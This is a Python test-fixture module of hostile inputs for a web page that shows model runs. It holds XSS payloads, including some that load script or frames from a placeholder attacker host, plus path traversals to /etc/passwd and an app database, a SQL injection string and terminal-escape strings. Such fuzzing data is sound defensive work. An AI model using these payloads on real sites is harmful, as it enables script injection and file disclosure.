"""Sixty texts that try to run a script or to reach another server from a page that shows them, and hostile strings."""

from __future__ import annotations

import random

CALL = "alert(1)"
AWAY = "//evil.invalid/x"

MARKUP = [
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script src={AWAY}></script>",
    f"<script type=module>import '{AWAY}'</script>",
    f"<img src=x onerror={CALL}>",
    f'"><img src=x onerror={CALL}>',
    f"'><img src=x onerror={CALL}>",
    f"<img src={AWAY}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{CALL}><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={CALL}>'></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{CALL}</script>'></foreignObject></svg>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src={AWAY}></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<embed src={AWAY}>",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<video src=x onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<marquee onstart={CALL}>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<form action={AWAY}><button>x</button></form>",
    f"<base href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<style>@import '{AWAY}';</style>",
    f"<style>*{{background:url({AWAY})}}</style>",
    f"<div style=background:url({AWAY})>x</div>",
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
    f"<template><script>{CALL}</script></template>",
    f"<noscript><img src=x onerror={CALL}></noscript>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<![CDATA[<script>{CALL}</script>]]>",
    f"javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "${alert(1)}`${alert(1)}`",
    "{{constructor.constructor('alert(1)')()}}",
    "__proto__",
    "\u2028alert(1)\u2029</script\x00><script>alert(1)</script>",
]
LATEX = [
    rf"$\href{{javascript:{CALL}}}{{x}}$",
    rf"$\url{{javascript:{CALL}}}$",
    rf"$\includegraphics{{{AWAY}}}$",
    rf"$\htmlClass{{x}}{{\htmlStyle{{background:url({AWAY})}}{{y}}}}$",
    r"$\htmlId{app}{x}$ $\htmlData{a=1}{x}$",
    r"$\def\a{\a\a}\a$",
    r"$\def\x#1{\x{#1#1}}\x{y}$",
    r"$\rule{99999em}{99999em}$",
    rf"$\text{{<img src=x onerror={CALL}>}}$",
    rf"\[ \begin{{array}}{{c}} <script>{CALL}</script> \end{{array}} \]",
    rf"\boxed{{<svg onload={CALL}>}}",
    "$" + "{" * 900 + "x" + "}" * 900 + "$",
]
PATHS = [
    f'..%2f..%2f"><img src=x onerror={CALL}>.gguf',
    f"C:\\models\\<svg onload={CALL}>.gguf",
]
XSS = MARKUP + LATEX + PATHS


def hostile(count: int = 200) -> list[str]:
    """Strings that terminals, encodings and parsers stumble over: fixed ones, then random mixtures of them."""
    pieces = [
        "\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07",
        "\x1b]8;;file:///etc\x07link\x1b]8;;\x07",
        "\x1b[2J\x1b[H",
        "\x9b31m",
        "\x00",
        "\x07\x08\x0b\x0c\x7f",
        "\r\nSet-Cookie: x",
        "\u202ereversed\u202c",
        "\u2066isolated\u2069",
        "\ud800",
        "\udfff\ud800",
        "\ufeffbom",
        "\ufffe\uffff",
        "\u200b\u200d\u00ad",
        "e\u0301" + "\u0301" * 40,
        "👩‍👩‍👧‍👦🏳️‍🌈",
        "日本語 العربية עברית",
        "\u2028\u2029",
        "\U0010ffff\U000e0001",
        "'; DROP TABLE runs; --",
        '{"a": [1, "\\u0000"]}',
        "=HYPERLINK(1)",
        "%s%n%00",
        "../../../../etc/passwd",
        "<!-- </script> ]]>",
        "\\",
        '"',
        "NaN",
        "x" * 3000,
    ]
    rng = random.Random(8)
    mixed = ["".join(rng.choices(pieces[:-1], k=rng.randrange(2, 6))) for _ in range(count - len(pieces))]
    return pieces + mixed


TRAVERSALS = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "....//....//etc/passwd",
    "..\\..\\windows\\win.ini",
    "..%5c..%5cwindows",
    "/etc/passwd",
    "//etc/passwd",
    "file:///etc/passwd",
    "api/run/../index",
    "api/run/%2e%2e/index",
    "api/run/0123456789abcde%00",
    "api/run/0123456789abcdef%00.html",
    "api/run/0123456789ABCDEF",
    "api/run/0123456789abcdef/question/../../../flyweight.db",
    "api/run/0123456789abcdef/question/..%2f..",
    "api/run/0123456789abcdef/question/0123456789abcdef",
    "api/run/0123456789abcdef",
    "api/run/",
    "api/diff/0123456789abcdef/../x",
    "api/diff/0123456789abcdef/0123456789abcdef",
    "api/ask/0123456789abcdef/events",
    "assets/../page.py",
    "assets/..%2fpage.py",
    "assets/built.json",
    "assets/page.js%00",
    "assets/page.js/",
    "assets//page.js",
    "flyweight.db",
    "assets/" + "a" * 5000,
]
